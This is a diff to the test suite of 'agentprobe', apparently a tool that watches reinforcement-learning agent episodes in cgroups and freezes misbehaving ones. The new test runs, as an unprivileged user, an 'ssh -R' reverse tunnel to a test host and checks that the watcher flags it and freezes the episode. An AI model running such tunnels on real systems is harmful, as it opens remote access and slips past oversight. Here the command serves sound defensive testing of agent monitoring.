@@ -4,8 +4,13 @@ rewards from them; labels from the cgroup and from the agents' environment."""
 
 from __future__ import annotations
 
+import grp
+import json
+import os
+import shutil
 import subprocess
 import sys
+import tempfile
 import time
 import uuid
 from pathlib import Path
@@ -28,17 +33,22 @@ def world(tmp_path_factory):
     parent = root / f"agentprobe-rl-{uuid.uuid4().hex[:6]}"
     parent.mkdir()
     tmp = tmp_path_factory.mktemp("rl")
-    sock, out = tmp / "ap.sock", tmp / "stream.msgpack"
+    sockdir = Path(tempfile.mkdtemp(prefix="agentprobe-rl-"))
+    sockdir.chmod(0o711)  # reachable by an unprivileged trainer when the socket lets it
+    sock, out = sockdir / "ap.sock", tmp / "stream.msgpack"
     w = None
     try:
         with Internet() as net:
-            w = WatcherProcess(["--cgroup", str(parent), "-o", f"unix:{sock}", "-o", str(out), "--no-view",
+            group = grp.getgrgid(65534).gr_name  # the trainers' group: nogroup here
+            w = WatcherProcess(["--cgroup", str(parent), "-o", f"unix:{sock}?group={group}", "-o", str(out),
+                                "--no-view",
                                 "--label-env", "EPISODE_ID,TOOL_CALL_ID"])
             yield parent, sock, out, net
     finally:
         if w is not None:
             w.stop()
         remove_cgroup_tree(parent)
+        shutil.rmtree(sockdir, ignore_errors=True)
 
 
 def file_verdicts(out: Path, n: int) -> dict:
@@ -111,3 +121,47 @@ def test_read_verdicts_lists_them(world, agentprobe_cmd):
     assert any("ep-honest" in x and " clean " in x and "policy=honest" in x for x in lines)
     assert any("ep-miner" in x and " frozen " in x for x in lines)
     assert "\x1b" not in r.stdout
+
+
+CLIENT_AS_USER = r"""
+import json, sys
+from agentprobe.client import Episode
+with Episode("ep-user", labels={"episode": "u1"}, parent=sys.argv[1], socket=sys.argv[2]) as ep:
+    ssh = "exec ssh -o BatchMode=yes -o ConnectTimeout=2 -N -R 9002:localhost:22 u@" + sys.argv[3]
+    r = ep.run(["/bin/sh", "-c", ssh], timeout=30)
+print(json.dumps({"frozen": r.frozen, "rules": ep.verdict.rules, "labels": ep.verdict.labels}))
+"""
+
+
+def test_client_as_an_unprivileged_user_with_a_delegated_cgroup(world):
+    """The site delegates the watched parent cgroup to the trainer's user (owner of the directory and
+    its cgroup.procs, cgroup.threads, cgroup.subtree_control) and serves the stream to its group: the
+    client makes, labels and removes episodes and gets verdicts without root."""
+    parent, sock, _, net = world
+    nobody = 65534
+    for name in ("", "cgroup.procs", "cgroup.threads", "cgroup.subtree_control"):
+        os.chown(parent / name if name else parent, nobody, nobody)
+    assert os.stat(sock).st_mode & 0o777 == 0o660  # -o unix:PATH?group=nogroup: the trainers' group reads
+    # the trainer's program, a file it can read (as `python3 -c` its text would look like a reverse shell)
+    script_dir = Path(tempfile.mkdtemp(prefix="agentprobe-trainer-"))
+    script_dir.chmod(0o755)
+    script = script_dir / "trainer.py"
+    script.write_text(CLIENT_AS_USER)
+    script.chmod(0o644)
+
+    def into_parent() -> None:  # the trainer runs inside its delegated subtree, as systemd would place it
+        (parent / "cgroup.procs").write_text(str(os.getpid()))
+
+    try:
+        r = subprocess.run(["setpriv", f"--reuid={nobody}", f"--regid={nobody}", "--clear-groups",
+                            sys.executable, str(script), str(parent), str(sock), net.addr],
+                           preexec_fn=into_parent, capture_output=True, text=True, timeout=60,
+                           env={"PYTHONPATH": str(REPO), "PATH": "/usr/bin:/bin"})
+    finally:
+        shutil.rmtree(script_dir, ignore_errors=True)
+        for name in ("", "cgroup.procs", "cgroup.threads", "cgroup.subtree_control"):
+            os.chown(parent / name if name else parent, 0, 0)
+    assert r.returncode == 0, r.stderr
+    got = json.loads(r.stdout.strip().splitlines()[-1])
+    assert got == {"frozen": True, "rules": {"ssh_port_forwarding": 1}, "labels": {"episode": "u1"}}
+    assert not (parent / "ep-user").exists()
